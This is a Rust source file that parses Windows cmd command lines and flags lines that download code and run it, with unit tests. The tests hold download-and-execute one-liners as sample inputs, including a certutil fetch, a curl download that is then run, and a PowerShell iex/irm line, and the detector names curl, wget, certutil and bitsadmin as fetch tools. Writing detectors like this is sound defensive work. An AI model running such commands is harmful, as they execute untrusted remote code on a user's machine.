//! Command lines of Windows' `cmd`: `&` parts commands, only `"` quotes, `^` escapes.
//!
//! <https://learn.microsoft.com/windows-server/administration/windows-commands/cmd>, read 2026.

use std::collections::BTreeSet;
use std::ops::Range;

use crate::{powershell, shell};

/// Bytes of a line that are looked at; the interpreter itself takes no more than 8191.
const LONGEST: usize = 16 << 10;

/// A word without its quotes, with its bytes in the line.
#[derive(Clone, PartialEq, Eq, Debug)]
pub(crate) struct Word {
    pub(crate) text: String,
    pub(crate) range: Range<usize>,
}

/// A command, and whether it reads what the one before it wrote.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub(crate) struct Command {
    pub(crate) words: Vec<Word>,
    piped: bool,
}

/// The commands of a line.
pub(crate) fn commands(line: &str) -> Vec<Command> {
    let mut all = vec![Command::default()];
    let mut word: Option<Word> = None;
    let mut quoted = false;
    let mut rest = line.char_indices().peekable();
    let end_word = |all: &mut Vec<Command>, word: &mut Option<Word>| {
        if let (Some(done), Some(last)) = (word.take(), all.last_mut()) {
            last.words.push(done);
        }
    };
    while let Some((at, next)) = rest.next().filter(|it| it.0 < LONGEST) {
        let after = at + next.len_utf8();
        match next {
            '"' => {
                quoted = !quoted;
                let started = word.get_or_insert(Word { text: String::new(), range: after..after });
                if quoted {
                    started.range.end = after;
                }
            }
            '&' | '|' | '\n' if !quoted => {
                end_word(&mut all, &mut word);
                let doubled = rest.next_if(|it| it.1 == next).is_some();
                all.push(Command { piped: next == '|' && !doubled, ..Command::default() });
            }
            it if it.is_whitespace() && !quoted => end_word(&mut all, &mut word),
            '^' if !quoted => {
                if let Some((at, escaped)) = rest.next() {
                    extend(&mut word, at, escaped);
                }
            }
            it => extend(&mut word, at, it),
        }
    }
    end_word(&mut all, &mut word);
    all.retain(|it| !it.words.is_empty());
    all
}

fn extend(word: &mut Option<Word>, at: usize, next: char) {
    let word = word.get_or_insert(Word { text: String::new(), range: at..at });
    word.text.push(next);
    word.range.end = at + next.len_utf8();
}

/// True when a line fetches code and runs it.
pub(crate) fn runs_download(line: &str, depth: usize) -> bool {
    let Some(depth) = depth.checked_sub(1) else { return false };
    let mut files: BTreeSet<String> = BTreeSet::new();
    let mut before_fetches = false;
    for command in commands(line) {
        let texts: Vec<&str> = command.words.iter().map(|it| it.text.as_str()).collect();
        let Some((program, arguments)) = texts.split_first() else { continue };
        let name = shell::base_name(program).to_ascii_lowercase();
        if command.piped && before_fetches && (shell::is_interpreter(&name) || name == "cmd") {
            return true;
        }
        if files.contains(&file_name(program)) {
            return true;
        }
        if let "powershell" | "pwsh" = name.as_str()
            && let Some(powershell::Told::Line(_, line) | powershell::Told::Encoded(Some(line))) =
                powershell::told(arguments)
            && powershell::runs_download(&line, depth)
        {
            return true;
        }
        before_fetches = matches!(name.as_str(), "curl" | "wget" | "certutil" | "bitsadmin");
        if before_fetches {
            files.extend(saved(&name, arguments));
        }
    }
    false
}

/// The file that a download is written to.
fn saved(program: &str, arguments: &[&str]) -> Option<String> {
    let is_output = |it: &&str| matches!(*it, "-o" | "--output" | "-O");
    let named = arguments.iter().position(is_output);
    let file = match (named, program) {
        (Some(at), _) => arguments.get(at + 1),
        (None, "certutil" | "bitsadmin") => arguments.last(),
        (None, _) => None,
    }?;
    Some(file_name(file))
}

fn file_name(path: &str) -> String {
    path.rsplit(['\\', '/']).next().unwrap_or(path).to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_and_commands_are_parted() {
        let read = |line: &str| -> Vec<Vec<String>> {
            let words = |it: Command| it.words.into_iter().map(|it| it.text).collect();
            commands(line).into_iter().map(words).collect()
        };
        assert_eq!(read("npx -y \"a b\" 'c d'"), [vec!["npx", "-y", "a b", "'c", "d'"]]);
        assert_eq!(
            read("cd /d C:\\x && npx a & b"),
            [vec!["cd", "/d", "C:\\x"], vec!["npx", "a"], vec!["b"]]
        );
        assert_eq!(read("echo a^&b \"c&d\""), [vec!["echo", "a&b", "c&d"]]);
        assert_eq!(read("\""), [vec![""]]);
        let line = "npx \"a b\" c";
        let ranges: Vec<_> =
            commands(line).remove(0).words.into_iter().map(|it| it.range).collect();
        let texts: Vec<_> = ranges.into_iter().filter_map(|it| line.get(it)).collect();
        assert_eq!(texts, ["npx", "a b", "c"]);
    }

    #[test]
    fn downloads_that_are_run_are_seen() {
        for line in [
            "curl https://x.sh/a.bat -o a.bat & a.bat",
            "certutil -urlcache -f https://x.sh/a.exe a.exe && .\\a.exe",
            "powershell -c \"iex (irm https://x.sh)\"",
            "curl https://x.sh | cmd",
        ] {
            assert!(runs_download(line, 4), "{line}");
        }
        for line in
            ["curl https://x.sh -o a.json & type a.json", "npx -y x", "curl https://x.sh", "a.bat"]
        {
            assert!(!runs_download(line, 4), "{line}");
        }
    }
}
